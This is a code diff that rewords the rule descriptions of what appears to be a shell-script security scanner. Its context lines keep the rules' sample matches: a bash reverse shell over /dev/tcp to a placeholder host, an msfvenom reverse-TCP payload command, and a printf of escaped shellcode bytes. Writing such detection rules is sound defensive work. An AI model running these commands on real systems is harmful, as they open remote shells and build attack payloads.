@@ -13,11 +13,11 @@ from engine.models import Violation
 
 REVERSE = rule(
     "sh-reverse-shell",
-    "Hands a shell to another machine",
+    "Connects a shell to another machine",
     "reverse_shell",
     CRITICAL,
-    attack="Gives whoever listens at the other end a command line on this machine.",
-    why="CRITICAL: there is no honest reason to join a shell's input and output to the network.",
+    attack="Gives an attacker a command line on this machine.",
+    why="CRITICAL: there is no legitimate reason to connect a shell to the network.",
     fix="Remove it.",
     match=(
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -37,11 +37,11 @@ REVERSE = rule(
 )
 GENERATOR = rule(
     "sh-payload-generator",
-    "Makes a remote-access payload",
+    "Builds a remote-access payload",
     "reverse_shell",
     HIGH,
-    attack="Builds a program that opens a shell on whichever machine runs it.",
-    why="HIGH: it makes the weapon, but does not fire it here.",
+    attack="Builds a program that opens a shell on the machine that runs it.",
+    why="HIGH: the payload is built here, but not run.",
     fix="Remove it.",
     match=("msfvenom -p linux/x64/shell_reverse_tcp LHOST=1.2.3.4 -f elf",),
     not_match=("man msfvenom",),
@@ -52,9 +52,9 @@ SHELLCODE = rule(
     "Contains machine code as escaped bytes",
     "reverse_shell",
     HIGH,
-    attack=("Carries a program in a form that no reviewer can read, to be written out or injected."),
-    why="HIGH: what the bytes do is unknown; CRITICAL would need to see them run.",
-    fix="Send source code.",
+    attack=("Carries a program in a form that no reviewer can read, to be written to a file or injected."),
+    why="HIGH: what the bytes do is unknown; CRITICAL requires that they run.",
+    fix="Submit source code.",
     match=(
         ("printf '\\x31\\xdb\\xf7\\xe3\\x53\\x43\\x53\\x6a\\x02\\x89\\xe1\\xb0\\x66\\xcd\\x80\\x93' > a"),
     ),
@@ -204,7 +204,7 @@ def _shellcode(script: Script) -> Iterator[Violation]:
         binary = sum(code < 9 or code > 126 for code in codes)
         if len(codes) >= 12 and binary * 4 >= len(codes) and not _is_utf8(codes[:64]):
             span = script.tree.lines.span(match.start(), match.end())
-            yield SHELLCODE.violation(span, f"{len(codes)} escaped bytes that are no text")
+            yield SHELLCODE.violation(span, f"{len(codes)} escaped bytes that are not text")
             return
 
 
